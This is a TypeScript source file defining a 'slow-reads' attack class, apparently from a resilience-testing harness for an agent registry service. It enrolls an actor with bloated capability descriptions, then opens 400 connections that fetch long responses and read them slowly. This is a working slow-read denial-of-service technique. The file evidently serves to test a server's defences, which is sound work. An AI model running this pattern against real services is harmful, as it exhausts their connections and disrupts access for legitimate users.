import type { AttackClass } from "../attack-class.ts";

const CONNECTIONS = 400;

export const slowReads: AttackClass = {
  name: "slow-reads",
  does: "400 connections request long answers and read them slowly",
  from: ["elsewhere", "spread"],
  lands: ["read"],
  async run(attacker) {
    const { host, port } = attacker.place;
    const capabilities = Array.from({ length: 80 }, (_, index) => ({
      name: `read-${index}`,
      description: "r".repeat(8_000),
    }));
    const actor = await attacker.enrolled(capabilities);
    const paths = [
      "/openapi.json",
      `/v1/agents/${actor.id}`,
      `/.well-known/waybill/agents/${actor.id}`,
    ];
    await attacker.crowd(CONNECTIONS, async (lane) => {
      const socket = await attacker.open();
      const path = paths[lane % paths.length]!;
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`);
      socket.pause();
      socket.on("data", (data: Buffer) => {
        attacker.count("read", data.length > 0 ? 1 : 0);
        socket.pause();
      });
      while (!socket.destroyed && !attacker.isOver) {
        await attacker.rest(500);
        socket.resume();
      }
    });
  },
};
